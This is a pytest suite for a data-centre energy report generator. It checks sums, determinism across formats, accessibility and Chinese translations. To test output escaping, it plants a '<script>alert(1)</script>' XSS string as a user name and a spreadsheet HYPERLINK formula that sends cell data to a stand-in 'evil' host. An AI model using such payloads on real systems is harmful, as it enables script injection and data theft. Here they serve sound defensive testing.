"""A report's sums are the store's, its parts sum to the meter, the same week gives the same bytes, nothing is made up."""

import io
import json
import re
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import NamedTuple
from zoneinfo import ZoneInfo

import numpy as np
import pytest
import typst
from axe_playwright_python.sync_playwright import Axe
from browsing import chromium
from small import small_site

from energy.account.book import Given
from energy.account.runs import TOPIC
from energy.baseline import Verdict
from energy.ledger_sums import Moved, Sum
from ingest.stores import open_store
from ingest.stores.records import open_records
from twin.errors import SourceError
from twin.frame import Frame, Origin
from twin.ports import Records, Store
from twin.site import Site
from ui.faces.pages.reports import LABELS as PAGE_LABELS
from ui.report import typeset
from ui.report.compose import compose
from ui.report.data import as_csv, as_xlsx
from ui.report.document import Report, Section, Table
from ui.report.energy import Limits
from ui.report.gather import Inputs, gather
from ui.report.names import in_language
from ui.report.page import page
from ui.report.show import Show
from ui.report.span import span_of
from ui.report.tokens import Tokens
from ui.report.write import FORMATS, files, write
from ui.words import words

ZONE = ZoneInfo("Asia/Shanghai")
WEEK = span_of("2026-W46", ZONE)
EVIL = "<script>alert(1)</script>"


class House(NamedTuple):
    site: Site
    store: Store
    records: Records


GIVEN = Given(average_gco2_per_kwh=500.0)


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> House:
    """Two weeks of a small site by the quarter of an hour; the second takes a tenth more. Two runs, one of them idle."""
    site, folder = small_site(), tmp_path_factory.mktemp("report")
    store, records = open_store(folder / "store", site), open_records(folder / "records.db")
    frames: list[Frame] = []
    for k in range(2 * 7 * 96):
        at = WEEK.before().start + timedelta(minutes=15 * k)
        more = 1.1 if at >= WEEK.start else 1.0
        gpu = {"power_w": np.full(16, 500.0 * more), "util_frac": np.r_[np.full(8, 0.9), np.zeros(8)]}
        meters = {"facility_power_w": 12_000.0 * more, "it_power_w": 10_000.0 * more, "cooling_power_w": 1_500.0 * more}
        bulb = _one("weather", at, {"wet_bulb_c": 15.0})
        frames += [Frame("gpu", at, site.all_rows("gpu"), gpu), _one("site", at, meters), bulb]
    store.append(frames)
    for k, (user, gpus, days) in enumerate(((EVIL, [[0, 7]], 7), ("lazy", [[8, 11]], 3))):
        start_s = WEEK.start.timestamp()
        run = {"key": f"q/{k}@{start_s:.0f}", "job": str(k), "user": user, "project": "p", "partition": "", "start_s": start_s,
               "gpus": gpus}  # fmt: skip
        records.append(TOPIC, WEEK.start, {"entry": "begun", **run})
        ended = {"entry": "ended", "key": run["key"], "end_s": start_s + days * 86400.0, "end_told": True}
        records.append(TOPIC, WEEK.start + timedelta(days=days), ended)
    return House(site, store, records)


@pytest.fixture(scope="module")
def inputs(house: House) -> Inputs:
    return gather(*house, WEEK, GIVEN)


def _one(kind: str, at: datetime, values: dict[str, float]) -> Frame:
    return Frame(kind, at, np.array([0], dtype=np.int32), {name: np.array([value]) for name, value in values.items()})


@pytest.fixture(scope="module")
def report(inputs: Inputs) -> Report:
    return compose(inputs, Limits(1.25))


def figures(report: Report) -> dict[str, float]:
    return {figure.key: figure.value for section in report.sections for figure in section.figures}


def test_sums_are_those_of_the_store(report: Report) -> None:
    found = figures(report)
    assert found["facility_kwh"] == pytest.approx(13.2 * 168, rel=1e-9)
    assert found["it_kwh"] == pytest.approx(11.0 * 168, rel=1e-9)
    assert found["pue_ratio"] == pytest.approx(1.2, rel=1e-9)
    assert found["carbon_location_kg"] == pytest.approx(13.2 * 168 * 0.5, rel=1e-9)
    assert found["held_frac"] == pytest.approx((8 * 7 + 4 * 3) / (16 * 7), rel=1e-9)
    assert found["idle_held_frac"] == pytest.approx(4 * 3 / (8 * 7 + 4 * 3), rel=1e-9)
    assert found["busy_frac"] == pytest.approx(0.45, rel=1e-9)
    facility = next(figure for figure in report.sections[0].figures if figure.key == "facility_kwh")
    assert facility.change_frac == pytest.approx(0.1, rel=1e-9)


def test_a_centre_that_reads_only_its_gpus_has_a_report_of_them(tmp_path: Path) -> None:
    """The first week of many: no facility meter, so no PUE, cost or carbon, and nothing of it made up."""
    site = small_site()
    store, records = open_store(tmp_path / "store", site), open_records(tmp_path / "records.db")
    frames: list[Frame] = []
    for k in range(7 * 96):
        at = WEEK.start + timedelta(minutes=15 * k)
        frames.append(Frame("gpu", at, site.all_rows("gpu"), {"util_frac": np.full(16, 0.5)}))
        modelled = Frame("site", at, np.array([0], dtype=np.int32), {"it_power_w": np.array([10_000.0])}, Origin.MODELLED)
        frames += [modelled] if k < 4 * 96 else []
    store.append(frames)
    made = compose(gather(site, store, records, WEEK, Given()))
    found = figures(made)
    assert found["it_read_kwh"] == pytest.approx(10.0 * 96, rel=1e-9)
    assert found["busy_frac"] == pytest.approx(0.5, rel=1e-9)
    assert not {"pue_limit_ratio", "cost", "carbon_location_kg", "kwh_per_gpu_h"} & set(found)
    assert np.isnan([found["facility_kwh"], found["it_kwh"], found["pue_ratio"]]).all()
    assert made.said[0].text.startswith("IT took {kwh:,.1f} kWh, {modelled:.0%} of the time as the twin works it out")
    assert made.said[-1].params == {"read": pytest.approx(4 / 7)}


def test_what_nobody_read_is_not_nought(tmp_path: Path) -> None:
    """Half of the week was read, and of the GPUs their power alone."""
    site = small_site()
    store, records = open_store(tmp_path / "store", site), open_records(tmp_path / "records.db")
    frames: list[Frame] = []
    for k in range(7 * 96 // 2):
        at = WEEK.start + timedelta(minutes=15 * k)
        meters = {"facility_power_w": 12_000.0, "it_power_w": 10_000.0, "cooling_power_w": 1_500.0}
        frames += [Frame("gpu", at, site.all_rows("gpu"), {"power_w": np.full(16, 500.0)}), _one("site", at, meters)]
    store.append(frames)
    run = {"key": "q/1", "job": "1", "user": "u", "project": "p", "partition": "", "start_s": WEEK.start.timestamp()}
    records.append(TOPIC, WEEK.start, {"entry": "begun", **run, "gpus": [[0, 7]]})
    made = compose(gather(site, store, records, WEEK, GIVEN), Limits())
    store.close()
    records.close()
    found = figures(made)
    assert "idle_held_frac" not in found
    assert any("nobody read how busy they were" in one.text for one in made.said)
    half = 12.0 * 84
    assert found["facility_kwh"] == pytest.approx(half, rel=0.01)
    assert found["kwh_per_gpu_h"] == pytest.approx(half / (8 * 84), rel=0.01), "of the hours in which energy was read"


def test_parts_sum_to_the_meter_to_the_watt_hour(report: Report) -> None:
    for by in ("project", "user", "job"):
        table = next(table for table in report.tables() if table.key == f"by_{by}")
        sums = np.array([[float(cell) for cell in row[1:]] for row in table.rows]).sum(axis=0)
        assert sums[2] == pytest.approx(13.2 * 168, abs=1e-6)
        assert sums[1] == pytest.approx(11.0 * 168, abs=1e-6)
    days = next(table for table in report.tables() if table.key == "days")
    assert sum(float(row[1]) for row in days.rows) == pytest.approx(13.2 * 168, rel=1e-9)


def test_the_same_week_gives_the_same_bytes_in_every_format(report: Report) -> None:
    one, other = (list(files(report, ("en", "zh"), FORMATS, WEEK.end, "CNY").files) for _ in range(2))
    assert [name for name, _ in one] == [name for name, _ in other]
    for (name, first), (_, second) in zip(one, other, strict=True):
        assert first == second, name
        assert len(first) > 30
    assert {name.rpartition(".")[2] for name, _ in one} == {"html", "pdf", "json", "csv", "xlsx"}


def test_a_format_that_cannot_be_made_takes_no_other_with_it(report: Report, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(typst, "Fonts", lambda: SimpleNamespace(families=lambda: ["DejaVu Sans Mono"]))
    typeset.no_font.cache_clear()
    done = files(report, ("en", "zh"), ("html", "pdf", "json"), WEEK.end, "CNY")
    assert [name for name, _ in done.files] == [f"2026-W46.{end}" for end in ("html", "pdf", "zh.html", "json")]
    (why,) = done.left_out
    assert why.startswith("2026-W46.zh.pdf: a PDF in Chinese needs a font")
    with pytest.raises(SourceError, match="fonts-noto-cjk"):
        files(report, ("zh",), ("pdf",), WEEK.end, "CNY")
    monkeypatch.undo()
    typeset.no_font.cache_clear()


def test_each_language_has_files_of_its_own_in_one_folder(report: Report, tmp_path: Path) -> None:
    """Asked for one after the other as both at once; who reads them finds each, and those that earlier releases named."""
    for language in ("en", "zh"):
        write(tmp_path, files(report, (language,), FORMATS, WEEK.end, "CNY").files)
    both = dict(files(report, ("en", "zh"), FORMATS, WEEK.end, "CNY").files)
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == both
    spoken = [f"2026-W46{tongue}.{kind}" for tongue in ("", ".zh") for kind in ("html", "pdf", "xlsx")]
    assert spoken == [name for name in both if name.rpartition(".")[2] not in ("csv", "json")]
    assert in_language(spoken, "zh") == spoken[3:]
    assert in_language(spoken, "en") == spoken[:3]
    assert in_language(["a.en.pdf", "a.zh.pdf", "a.html", "a.csv"], "zh") == ["a.zh.pdf", "a.html", "a.csv"]
    assert in_language(["2026-W46/a.en.pdf", "2026-W46/a.zh.pdf"], "en") == ["2026-W46/a.en.pdf"]


def test_a_name_that_a_spreadsheet_would_run_stays_a_text() -> None:
    evil = '=HYPERLINK("http://evil/?"&A1,"report")'
    table = Table("users", "Users", (("user", ""), ("it_kwh", "kWh")), ((evil, -1.5), ("li.na", 2.0)))
    assert as_csv(table).splitlines()[1:] == ['"\'=HYPERLINK(""http://evil/?""&A1,""report"")",-1.5', "li.na,2.0"]
    book = as_xlsx(Report("x", "", "2026-W46", "", "", "UTC", (), (), [Section("s", "S", blocks=[table])]), WEEK.end)
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist() if "sheet" in name)


def test_the_page_shows_the_data_files_numbers_and_runs_nothing(report: Report) -> None:
    made = dict(files(report, ("en",), ("html", "json"), WEEK.end, "").files)
    text, data = made["2026-W46.html"].decode(), json.loads(made["2026-W46.json"])
    assert data["sections"]["energy"]["figures"]["pue_ratio"]["value"] == pytest.approx(1.2)
    assert "1.200" in text
    assert EVIL not in text
    assert "&lt;script&gt;" in text
    assert not re.search(r"https?://(?!www\.w3\.org)", text)


@pytest.mark.browser
@pytest.mark.parametrize("width", [400, 1200])
def test_the_page_is_for_who_hears_it_and_who_has_no_mouse(report: Report, width: int) -> None:
    """Every rule of axe, those of good practice too: headings in order, regions that are told apart and that keys move."""
    with chromium() as browser:
        tab = browser.new_page(viewport={"width": width, "height": 800})
        for text in (page(report, Show(words(language), "CNY")) for language in ("en", "zh")):
            tab.set_content(text)
            found = Axe().run(tab).response["violations"]
            assert [f"{one['id']}: {one['nodes'][0]['html'][:120]}" for one in found] == []


def test_the_pdf_is_tagged_for_those_who_hear_it(report: Report) -> None:
    made = dict(files(report, ("zh",), ("pdf",), WEEK.end, "").files)["2026-W46.zh.pdf"]
    text = b"".join(_streams(made))
    assert b"pdfuaid" in text
    for mark in (b"/StructTreeRoot", b"/Lang", b"/MarkInfo"):
        assert mark in text, mark
    assert text.count(b"/S/TH") + text.count(b"/S /TH") >= 10


def _streams(pdf: bytes) -> Iterator[bytes]:
    """A PDF's objects, those in compressed streams too."""
    yield pdf
    for found in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.DOTALL):
        try:
            yield zlib.decompress(found[1])
        except zlib.error:
            continue


def test_the_pages_list_names_every_figure_of_a_first_page(report: Report) -> None:
    assert {figure.label for figure in report.head} <= set(PAGE_LABELS)
    zh = words("zh")
    assert [text for text in PAGE_LABELS if text != "PUE" and zh(text) == text] == []


def test_every_word_is_also_chinese(report: Report) -> None:
    zh = words("zh")
    said = [report.sections[k].title for k in range(3)]
    for section in report.sections:
        said += [message.text for message in section.lead]
        said += [figure.label for figure in section.figures]
        said += [block.title for block in section.blocks if hasattr(block, "title")]
        said += [label for table in report.tables() for label, _ in table.heads]
    said += [message.text for message in report.said] + [verdict.value for verdict in Verdict if verdict != Verdict.SHOWN]
    same = {"PUE", "CUE", "WUE", "REF", "ERF", "GPU"}
    assert [text for text in dict.fromkeys(said) if text not in same and zh(text) == text] == []
    assert "能耗" in page(report, Show(zh))


def test_a_week_that_nobody_read_says_so(tmp_path: Path) -> None:
    site: Site = small_site()
    store, records = open_store(tmp_path / "store", site), open_records(tmp_path / "records.db")
    made = compose(gather(site, store, records, WEEK, Given()))
    assert [message.text for message in made.said] == [
        "Nothing was read in this span: no meter and no model says what the centre took in."
    ]
    assert not np.isfinite(figures(made)["facility_kwh"])
    assert dict(files(made, ("en",), FORMATS, WEEK.end, "").files)


def test_the_sci_is_the_carbon_of_use_and_a_share_of_the_making(inputs: Inputs) -> None:
    """1,500 kg for a GPU over 50,000 hours: 30 g for each hour held. Five million tokens took 40 of them."""
    told = replace(inputs, tokens=Tokens(count=5e6, node_kwh=100.0, gpu_h=40.0))
    found = figures(compose(told, Limits(embodied_kg_per_gpu=1500.0, gpu_life_s=3600 * 50_000.0)))
    assert found["sci_kg_per_gpu_h"] == pytest.approx(found["kg_per_gpu_h"] + 0.03)
    assert found["sci_kg_per_mtoken"] == pytest.approx(found["kg_per_mtoken"] + 0.03 * 40 / 5)
    assert "sci_kg_per_gpu_h" not in figures(compose(told)), "nobody said what making a GPU emitted"


def test_what_moved_jobs_brought_is_said_in_both_languages_and_so_is_what_has_no_figure(inputs: Inputs) -> None:
    g, unit = Sum(3, -4000.0, {WEEK.start: (300.0, 400.0)}), Sum(1, 2500.0, {WEEK.start: (500.0, 500.0)})
    told = replace(inputs, moved=Moved({"carbon_gco2_per_kwh": g, "price_per_mwh": unit}, 2))
    lead = next(one for one in compose(told).sections if one.key == "energy").lead
    en, zh = ([words(name).sentence(one) for one in lead] for name in ("en", "zh"))
    assert any(one.startswith("3 jobs have ended") and "−4 kg" in one and "between −4 and −4 kg" in one for one in en)
    assert any(one.startswith("1 jobs have ended") and "+2 in money" in one for one in en)
    assert any(one.startswith("2 moved jobs were not seen to end") for one in en)
    assert not set(en) & set(zh)


def test_meters_that_disagree_are_named_and_counted_as_read(tmp_path: Path) -> None:
    """IT's meters sum to 0.2 % more than the facility's: within the class of either."""
    site: Site = small_site()
    store, records = open_store(tmp_path / "store", site), open_records(tmp_path / "records.db")
    hours = [WEEK.start + timedelta(hours=k) for k in range(7 * 24)]
    read = {"facility_power_w": np.array([1e6]), "it_power_w": np.array([1.002e6])}
    store.append([Frame("site", at, site.all_rows("site"), read) for at in hours])
    inputs = gather(site, store, records, WEEK, Given())
    assert inputs.account.indicators.pue_ratio == pytest.approx(1 / 1.002)
    said = [m for part in compose(inputs).sections for m in part.lead if m.text.startswith("Meters disagree")]
    assert [m.params["apart"] for m in said] == [pytest.approx(0.002)]
    assert words("zh")(said[0].text) != said[0].text
